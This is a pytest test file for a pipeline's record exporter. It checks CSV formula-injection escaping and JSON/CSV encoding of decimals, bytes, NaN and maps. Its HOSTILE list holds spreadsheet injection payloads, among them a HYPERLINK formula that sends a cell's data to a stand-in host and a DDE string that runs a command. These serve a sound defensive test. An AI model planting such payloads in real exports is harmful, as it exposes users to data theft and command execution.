"""What an export writes, and what a spreadsheet must not run."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pyarrow as pa
import pyarrow.dataset as ds
import pytest

from pipeline.storage.export import ExportFormat, export_records

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    "\x00=1",
    "-1.5+2",
    "-1\n",
    "+1e5e5",
    "-\u0661",
]
HARMLESS = ["plain", "a=b", "", "-12.50", "+3", "-1E+3", 'with "quotes", and\nlines', "'=quoted already"]


def _csv(table: pa.Table) -> list[list[str]]:
    file = io.BytesIO()
    assert export_records(ds.dataset(table), ExportFormat.CSV, file) == table.num_rows
    return list(csv.reader(io.StringIO(file.getvalue().decode(), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("column", ["_document_id", "title"])
def test_a_cell_that_a_spreadsheet_would_run_is_quoted(text: str, column: str) -> None:
    """Fails when `_FORMULA_STARTS` lacks one of its characters, or ids are left out."""
    header, row = _csv(
        pa.table({"_document_id": ["d"], "title": ["t"]}).set_column(
            ["_document_id", "title"].index(column), column, pa.array([text])
        )
    )
    assert row[header.index(column)] == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_written_as_it_is(text: str) -> None:
    _, row = _csv(pa.table({"_document_id": ["d"], "title": [text]}))
    assert row == ["d", text]


def test_numbers_are_numbers_and_nested_values_json() -> None:
    table = pa.table(
        {
            "_document_id": ["d"],
            "total": pa.array([Decimal("-1.50")], pa.decimal128(6, 2)),
            "count": [-3],
            "items": [[{"name": "=1+1"}]],
        }
    )
    assert _csv(table)[1] == ["d", "-1.50", "-3", '[{"name":"=1+1"}]']


def test_columns_of_the_input_stay_whatever_they_are_called() -> None:
    """Only audit columns are left out; Elasticsearch and MongoDB give names that begin as theirs do."""
    table = pa.table({"_document_id": ["d"], "_source": ["s"], "_day": ["1"], "_status": ["valid"], "_spans": [[]]})
    assert _csv(table)[0] == ["_document_id", "_source", "_day"]


def test_bytes_are_base64_and_what_is_no_number_is_a_string() -> None:
    table = pa.table(
        {
            "_document_id": ["d"],
            "key": pa.array([b"\x8f\x00" * 8], pa.binary(16)),
            "raw": [b"\xff"],
            "rate": [float("nan")],
            "rates": [[float("inf")]],
        }
    )
    file = io.BytesIO()
    export_records(ds.dataset(table), ExportFormat.JSONL, file)
    assert json.loads(file.getvalue(), parse_constant=pytest.fail) == {
        "_document_id": "d",
        "key": "jwCPAI8AjwCPAI8AjwCPAA==",
        "raw": "_w==",
        "rate": "NaN",
        "rates": ["Infinity"],
    }
    assert _csv(table)[1] == ["d", "jwCPAI8AjwCPAI8AjwCPAA==", "_w==", "nan", '["Infinity"]']


def test_a_map_is_an_object_unless_a_key_stands_in_it_twice() -> None:
    """Fails when one of two values under a key is dropped without a word."""
    kind = pa.map_(pa.string(), pa.int64())
    rows = [[("a", 1)], [("a", 1), ("a", 2)], [], None]
    table = pa.table(
        {
            "_document_id": ["d1", "d2", "d3", "d4"],
            "meta": pa.array(rows, kind),
            "inner": pa.array([{"meta": row} for row in rows], pa.struct([("meta", kind)])),
        }
    )
    expected = [{"a": 1}, [["a", 1], ["a", 2]], {}, None]
    file = io.BytesIO()
    export_records(ds.dataset(table), ExportFormat.JSONL, file)
    written = [json.loads(line) for line in file.getvalue().splitlines()]
    assert [row["meta"] for row in written] == expected
    assert [row["inner"]["meta"] for row in written] == expected
    assert [row[1] for row in _csv(table)[1:]] == ['{"a":1}', '[["a",1],["a",2]]', "{}", ""]
